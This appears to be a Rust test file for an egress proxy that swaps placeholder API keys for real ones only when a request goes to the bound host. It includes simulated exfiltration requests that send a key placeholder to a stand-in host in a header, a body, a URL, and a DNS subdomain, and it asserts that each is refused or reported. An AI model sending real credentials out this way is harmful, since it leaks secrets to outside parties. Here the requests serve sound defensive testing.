//! (b) A placeholder sent anywhere but its bound host stays a placeholder, and the proxy says
//! so when it can see it (plain HTTP, host names, intercepted requests to another bound host).

use super::*;

fn plain(p: &Proxy, request: &str) -> String {
    let mut s = TcpStream::connect(p.addr).unwrap();
    s.set_read_timeout(Some(T)).unwrap();
    s.write_all(request.as_bytes()).unwrap();
    let mut out = String::new();
    let _ = s.read_to_string(&mut out);
    out
}

#[test]
fn a_placeholder_elsewhere_arrives_as_the_placeholder_and_is_reported() {
    let ca = TestCa::new();
    let other_plain = origin(None);
    let other_tls = origin(Some(ca.server(&["other.example"])));
    let openai = origin(Some(ca.server(&["api.openai.com"])));
    let allow = [
        "api.anthropic.com",
        "api.openai.com",
        "other.example:80",
        "other.example:443",
    ];
    let names = [
        ("other.example:80", other_plain.port),
        ("other.example:443", other_tls.port),
        ("api.openai.com", openai.port),
    ];
    let p = proxy(&allow, SECRETS, BINDS, &names, ca.roots());
    let key = placeholder_of(&p, "ANTHROPIC_API_KEY");
    let real_key = real("ANTHROPIC_API_KEY");
    // In a header, in the body, in the URL: plain HTTP to a host the key is not bound to.
    let reqs = [
        format!("GET http://other.example/ HTTP/1.1\r\nHost: other.example\r\nx-api-key: {key}\r\n\r\n"),
        format!("POST http://other.example/ HTTP/1.1\r\nHost: other.example\r\nContent-Length: {}\r\n\r\nkey={key}", key.len() + 4),
        format!("GET http://other.example/?k={key} HTTP/1.1\r\nHost: other.example\r\n\r\n"),
    ];
    for r in &reqs {
        assert!(plain(&p, r).ends_with("ok"));
    }
    // Through a tunnel to a host nothing is bound to: untouched (the client sees the real
    // other.example certificate from the test CA, not the per-call CA).
    let req = format!("GET / HTTP/1.1\r\nHost: other.example\r\nx-api-key: {key}\r\n\r\n");
    assert!(https(&p, "other.example", &ca.pem(), &req)
        .unwrap()
        .ends_with("ok"));
    // To another bound host, in its intercepted request.
    let req = format!("GET / HTTP/1.1\r\nHost: api.openai.com\r\nx-api-key: {key}\r\n\r\n");
    assert!(https(&p, "api.openai.com", &p.ic.ca_pem(), &req)
        .unwrap()
        .ends_with("ok"));
    // As a host name (DNS exfiltration): refused by the egress rules, reported all the same.
    let resp = plain(
        &p,
        &format!(
            "CONNECT {}.other.example:443 HTTP/1.1\r\n\r\n",
            key.to_ascii_lowercase()
        ),
    );
    assert!(resp.starts_with("HTTP/1.1 403"), "{resp}");

    let seen: Vec<String> = [&other_plain, &other_tls, &openai]
        .iter()
        .flat_map(|o| o.seen.lock().unwrap().clone())
        .collect();
    assert_eq!(seen.len(), 5);
    for s in &seen {
        assert!(s.contains(&key), "the placeholder did not arrive: {s}");
        assert!(!s.contains(&real_key), "the real key leaked: {s}");
    }
    each_reported_as_exfiltration(&p, &key);
    // The OpenAI key was not used (its placeholder was not sent); nothing was added anywhere.
    assert!(p.of(Verdict::SecretAdded).is_empty());
}

/// The five placeholders sent elsewhere, each reported as exfiltration of the Anthropic key, with
/// its host; the one in another bound host's intercepted request found in its head.
fn each_reported_as_exfiltration(p: &Proxy, key: &str) {
    let exfil = p.of(Verdict::Exfiltration);
    let hosts: Vec<&str> = exfil.iter().map(|e| e.host.as_str()).collect();
    assert_eq!(
        hosts,
        [
            "other.example",
            "other.example",
            "other.example",
            "api.openai.com",
            &format!("{}.other.example", key.to_ascii_lowercase())
        ],
        "{exfil:?}"
    );
    assert!(exfil
        .iter()
        .all(|e| e.secret.as_deref() == Some("ANTHROPIC_API_KEY")));
    assert!(
        exfil[3].reason.contains("in the request head"),
        "{:?}",
        exfil[3]
    );
}

#[test]
fn plain_http_to_the_bound_host_gets_no_real_value() {
    let ca = TestCa::new();
    let api = origin(None);
    let p = proxy(
        &["api.anthropic.com"],
        SECRETS,
        BINDS,
        &[("api.anthropic.com", api.port)],
        ca.roots(),
    );
    let key = placeholder_of(&p, "ANTHROPIC_API_KEY");
    let req = format!("GET http://api.anthropic.com/v1/models HTTP/1.1\r\nHost: api.anthropic.com\r\nx-api-key: {key}\r\n\r\n");
    assert!(plain(&p, &req).ends_with("ok"));
    let seen = api.seen.lock().unwrap()[0].clone();
    assert!(
        seen.contains(&key) && !seen.contains(&real("ANTHROPIC_API_KEY")),
        "{seen}"
    );
    let ev = p.of(Verdict::Exfiltration);
    assert_eq!(ev.len(), 1);
    assert!(ev[0].reason.contains("plain HTTP"), "{:?}", ev[0]);
    assert!(p.of(Verdict::SecretAdded).is_empty());
}
